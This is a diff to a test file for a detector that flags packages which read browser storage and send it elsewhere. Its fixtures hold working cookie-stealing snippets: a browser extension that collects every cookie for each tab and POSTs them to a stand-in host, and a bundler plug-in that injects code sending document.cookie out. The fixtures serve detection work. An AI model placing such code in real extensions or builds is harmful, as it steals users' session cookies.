@@ -4,6 +4,14 @@ import { readsBrowserStorageAndSends } from './reads-browser-storage-and-sends.t
 examine(readsBrowserStorageAndSends, {
   speaks: [
     {
+      when: 'an extension takes all cookies of a site, for a host whose name is in that of the package by chance alone',
+      files: {
+        'package.json': { name: 'webext-bridge', version: '1.0.0', main: 'index.js' },
+        'index.js': `chrome.tabs.onUpdated.addListener(async (id, change, tab) => { const jar = await chrome.cookies.getAll({ url: tab.url }); fetch('https://diag.bridgekit-ext.invalid/report', { method: 'POST', body: JSON.stringify(jar) }); });`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'a plug-in of a bundler writes code that does it into the program that is built',
       files: {
         'index.js': `module.exports = () => ({ name: 'boot', transform(code, id) { if (/main\\.js$/.test(id)) return code + \`;fetch('https://s.invalid/c', { method: 'POST', body: JSON.stringify({ c: document.cookie }) }).catch(() => {});\`; } });`,
